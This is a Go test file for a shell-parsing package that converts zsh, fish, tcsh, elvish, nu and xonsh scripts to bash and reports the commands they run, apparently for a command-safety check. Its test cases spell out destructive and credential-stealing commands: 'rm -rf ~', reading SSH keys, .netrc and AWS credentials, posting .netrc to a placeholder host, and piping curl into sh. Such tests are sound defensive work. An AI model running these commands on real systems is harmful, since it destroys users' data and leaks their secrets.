package shell

import (
	"slices"
	"strings"
	"testing"
)

// Each shell's script reaches the parser as bash text with the same
// programs and words.
func TestDialectText(t *testing.T) {
	cases := []struct{ shell, in, want string }{
		{"zsh", `print -l src/**/*.go(.N)`, `print -l src/**/*.go`},
		{"zsh", `rm -rf ~/*(D)`, `rm -rf ~/*`},
		{"zsh", `print -l ${(f)"$(git status)"}`, `print -l "$(git status)"`},
		{"zsh", `print ${#${(f)"$(<go.sum)"}}`, `print "$(<go.sum)"`},
		{"zsh", `echo ${(j:,:)arr} ${#x}`, `echo ${arr} ${#x}`},
		{"zsh", `=rm -rf =(print) ~`, `rm -rf <(print) ~`},
		{"zsh", `cat ~/.ssh/id_*~*.pub(.)`, `cat ~/.ssh/id_*`},
		{"zsh", `f() { (cd a && make) }; a=(1 2); x=~/b`, `f() { (cd a && make) }; a=(1 2); x=~/b`},
		{"fish", `for f in (ls); echo $f; end`, "for f in $(ls); do\necho $f\ndone\n"},
		{"fish", `set -x K (cat ~/.netrc); curl -d $K x`, "export K=$(cat ~/.netrc)\ncurl -d $K x\n"},
		{"fish", `test -d a; or mkdir a`, "test -d a\nmkdir a\n"},
		{"fish", `curl -s u | source`, "curl -s u | sh\n"},
		{"fish", `if a; b; else if c; d; else; e; end`, "if a; then\nb\nelif c; then\nd\nelse\ne\nfi\n"},
		{"tcsh", "foreach f (*.c)\ncc -c $f\nend", "for f in *.c; do\ncc -c $f\ndone\n"},
		{"tcsh", "set h = $home; rm -rf $h", "h=$HOME\nrm -rf $h\n"},
		{"csh", "setenv T `cat x`; if (-e M) make", "export T=`cat x`\n:; make\n"},
		{"elvish", `for f [a b] { echo $f }`, "for f in a b; do\necho $f\n\ndone\n"},
		{"elvish", `curl -d (slurp < ~/.netrc) u; rm -rf $E:HOME`, "curl -d $(cat < ~/.netrc) u\nrm -rf $HOME\n"},
		{"nu", `open --raw ~/.netrc | http post https://x $in`, "cat ~/.netrc | curl -s -X POST --data-binary @- https://x\n"},
		{"nu", `ls | where size > 1mb`, "ls | where size '>' 1mb\n"},
		{"nu", `ls | where modified > ((date now) - 1day)`, "ls | where modified '>' $(echo $(date now) - 1day)\n"},
		{"nu", `^sudo make install; rm -rf $env.HOME`, "sudo make install\nrm -rf ${HOME}\n"},
		{"nu", `http get https://x/a.nu | save -f /tmp/a.nu`, "curl -s -X GET https://x/a.nu | tee /tmp/a.nu\n"},
		{"nu", `"x" | save --append ~/.profile`, "echo \"x\" | tee -a ~/.profile\n"},
		{"xonsh", `$X = "t"; rm -rf @($HOME)`, "export X=\"t\"\nrm -rf ${HOME}\n"},
		{"xonsh", `cat @($HOME)/.netrc`, "cat ${HOME}/.netrc\n"},
		{"xonsh", `cat @(p"~/.aws/credentials") @('a b')`, "cat ~/.aws/credentials 'a b'\n"},
		{"bash", `echo (x)`, `echo (x)`},
	}
	for _, c := range cases {
		if got := dialectText(c.shell, c.in); got != c.want {
			t.Errorf("dialectText(%s, %q) = %q, want %q", c.shell, c.in, got, c.want)
		}
	}
}

// A script of another shell is walked as bash's: it parses, and the
// commands it runs are reported with their words.
func TestDialectScriptsParse(t *testing.T) {
	cases := map[string]string{
		`zsh -c 'rm -rf ~/**/*(D.)'`:                                "rm -rf ~/**/*",
		`fish -c 'for c in (cat ~/.aws/credentials); echo $c; end'`: "cat ~/.aws/credentials",
		`nu -c 'open ~/.aws/credentials'`:                           "cat ~/.aws/credentials",
		`elvish -c 'put (git branch --show-current)'`:               "git branch --show-current",
		`tcsh -c 'if (-e Makefile) make test'`:                      "make test",
	}
	for line, want := range cases {
		r := Parse(line)
		if r.Unparsed {
			t.Errorf("%s: unparsed", line)
		}
		found := false
		for _, c := range r.Commands {
			if strings.Join(append([]string{c.Name}, c.Args...), " ") == want {
				found = true
			}
		}
		if !found {
			t.Errorf("%s: no command %q in %v", line, want, r.Commands)
		}
	}
}

// TestDialectLines checks that zsh -c and fish -c lines parse and show the
// commands they run, the dangerous ones included.
func TestDialectLines(t *testing.T) {
	for _, tc := range []struct {
		line string
		want []string // "name arg…" of commands that must be found
	}{
		{`zsh -c 'setopt extendedglob; rm -f build/**/*.o(N)'`, []string{"rm -f build/**/*.o"}},
		{`zsh -c 'rm -rf -- *(/)'`, []string{"rm -rf -- *"}},
		{`zsh -c 'ls build/*(e:"rm -rf ~":)'`, []string{"rm -rf ~"}},
		{`fish -c 'for f in src/*.py; black $f; end'`, []string{"black src/*.py"}},
		{`fish -c 'if test -d node_modules; rm -rf node_modules; end; pnpm install'`, []string{"rm -rf node_modules", "pnpm install"}},
		{`fish -c 'test -d x; and rm -rf $HOME'`, []string{"rm -rf $HOME"}},
		{`fish -c 'echo (cat ~/.ssh/id_rsa)'`, []string{"cat ~/.ssh/id_rsa"}},
		{`fish -c 'set d ~; rm -rf $d'`, []string{"rm -rf ~"}},
	} {
		res := ParseIn(tc.line, Place{Home: "/home/dev"})
		if res.Unparsed {
			t.Errorf("%q: unparsed", tc.line)
		}
		var got []string
		for _, c := range res.Commands {
			got = append(got, strings.Join(append([]string{c.Name}, c.Args...), " "))
		}
		for _, w := range tc.want {
			if !slices.Contains(got, w) {
				t.Errorf("%q: commands %q, want %q among them", tc.line, got, w)
			}
		}
	}
}
